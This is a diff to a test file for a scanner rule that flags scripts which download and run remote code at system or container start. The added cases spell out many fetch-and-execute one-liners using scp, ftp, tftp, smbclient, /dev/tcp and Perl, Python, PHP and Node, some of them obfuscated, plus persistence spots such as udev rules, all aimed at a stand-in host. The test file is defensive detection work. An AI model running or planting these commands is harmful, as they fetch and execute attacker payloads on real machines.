@@ -57,6 +57,24 @@ describe('download-and-run finds at start', () => {
       'hex',
       `printf '${[...Buffer.from(`curl -s ${URL} | sh`)].map((b) => `\\x${b.toString(16)}`).join('')}' | sh`,
     ],
+    ['scp', 'scp -o StrictHostKeyChecking=no u@203.0.113.9:/x /tmp/x; /tmp/x'],
+    ['ftp with a here-document', 'ftp -n 203.0.113.9 <<E\nuser a b\nget x /tmp/x\nquit\nE\nsh /tmp/x'],
+    ['tftp', 'tftp 203.0.113.9 -c get x /tmp/x; sh /tmp/x'],
+    ["BusyBox' tftp", 'tftp -g -r x -l /tmp/x 203.0.113.9; chmod +x /tmp/x; /tmp/x'],
+    ["BusyBox' ftpget", 'ftpget -u a 203.0.113.9 /tmp/x x; sh /tmp/x'],
+    ['lftp', 'lftp -c "open 203.0.113.9; get x -o /tmp/x"; sh /tmp/x'],
+    ['smbclient', "smbclient //203.0.113.9/s -N -c 'get x /tmp/x'; sh /tmp/x"],
+    ['Perl on the command line', `perl -MLWP::Simple -e 'getstore("${IP}","/tmp/x")'; perl /tmp/x`],
+    [
+      'Python on the command line',
+      `python3 -c "import urllib.request as u;u.urlretrieve('${IP}','/tmp/x')"; sh /tmp/x`,
+    ],
+    ['PHP on the command line', `php -r 'copy("${IP}","/tmp/x");' && chmod +x /tmp/x && /tmp/x`],
+    [
+      'a connection of the shell',
+      "exec 3<>/dev/tcp/203.0.113.9/80; printf 'GET /x\\r\\n' >&3; cat <&3 > /tmp/x; bash /tmp/x",
+    ],
+    ['a connection of the shell, piped', 'exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | sh'],
   ])('as critical: %s', (_name, script) => {
     const findings = find(`#!/bin/bash\n${script}\n`);
     expect(findings[0]).toMatchObject({ rule: 'start/download-and-run', severity: 'critical' });
@@ -74,6 +92,10 @@ describe('download-and-run finds at start', () => {
       'save and run',
       `import urllib.request, os\nurllib.request.urlretrieve("${URL}", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")\n`,
     ],
+    ['renamed run', `from subprocess import run as r\nr("curl -s ${URL}|sh", shell=True)\n`],
+    ['renamed among others', `from os import (path,\n  system as s)\ns('curl -s ${URL} | sh')\n`],
+    ['assigned', `import os\ngo = os.system\ngo("curl -s ${URL} | sh")\n`],
+    ['getattr', `import os\ngetattr(os,'sys'+'tem')("wget -qO- ${URL}|sh")\n`],
   ])('python %s', (_name, text) => {
     expect(find(`#!/usr/bin/env python3\n${text}`)[0]).toMatchObject({
       rule: 'start/download-and-run',
@@ -84,6 +106,22 @@ describe('download-and-run finds at start', () => {
   it.each([
     ['perl', `#!/usr/bin/perl\nsystem("wget -qO- ${URL} | sh");\n`],
     ['node', `#!/usr/bin/env node\nrequire('child_process').execSync('curl -s ${URL} | sh');\n`],
+    [
+      'node renamed',
+      `#!/usr/bin/env node\nconst {execSync: e} = require('child_process');\ne('curl -s ${URL} | sh');\n`,
+    ],
+    [
+      'node imported',
+      `#!/usr/bin/env node\nimport { exec as go } from 'node:child_process';\ngo('curl -s ${URL} | sh');\n`,
+    ],
+    [
+      'node promised',
+      `#!/usr/bin/env node\nconst sh = require('util').promisify(require('child_process').exec);\nsh('curl -s ${URL} | sh');\n`,
+    ],
+    [
+      'node by a name put together',
+      `#!/usr/bin/env node\nrequire('child_process')['ex' + 'ec']('curl -s ${URL} | sh');\n`,
+    ],
     [
       'node eval',
       `#!/usr/bin/env node\nrequire('https').get('${URL}', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n`,
@@ -105,6 +143,7 @@ describe('download-and-run finds at start', () => {
           'etc/supervisor/conf.d/a.conf': `[program:a]\ncommand=/bin/sh -c "${command}"\n`,
           'etc/profile.d/a.sh': `${command}\n`,
           'root/.bashrc': `${command}\n`,
+          'etc/udev/rules.d/9.rules': `ACTION=="add", RUN+="/bin/sh -c '${command}'"\n`,
           'etc/s6-overlay/s6-rc.d/a/run': `#!/command/with-contenv sh\n${command}\n`,
         },
       ],
@@ -117,6 +156,7 @@ describe('download-and-run finds at start', () => {
       '/etc/s6-overlay/s6-rc.d/a/run',
       '/etc/supervisor/conf.d/a.conf',
       '/etc/systemd/system/a.service',
+      '/etc/udev/rules.d/9.rules',
       '/root/.bashrc',
       '/var/spool/cron/crontabs/root',
       'ENTRYPOINT',
@@ -172,6 +212,12 @@ describe('download-and-run leaves alone', () => {
     ['decoded certificates', 'echo "$CERT" | base64 -d > /etc/ssl/cert.pem'],
     ['gosu', 'exec gosu postgres "$@"'],
     ['perl filters', `curl -s ${URL} | perl -ne 'print if /x/' | sed s/a/b/`],
+    [
+      'a file that is got and not run',
+      'ftp -n 203.0.113.9 <<E\nget data.csv /data/a.csv\nE\nexec app /etc/app.conf',
+    ],
+    ['a file that is sent', 'scp /tmp/x u@203.0.113.9:/x; sh /tmp/x'],
+    ['a port that is asked', 'exec 3<>/dev/tcp/db/5432; echo ok; sh /app/run.sh'],
     ['a usage text', `cat <<EOT\nUsage: curl ${URL} | sh\nEOT`],
   ])('%s', (_name, script) => {
     expect(find(`#!/bin/sh\n${script}\n`)).toEqual([]);
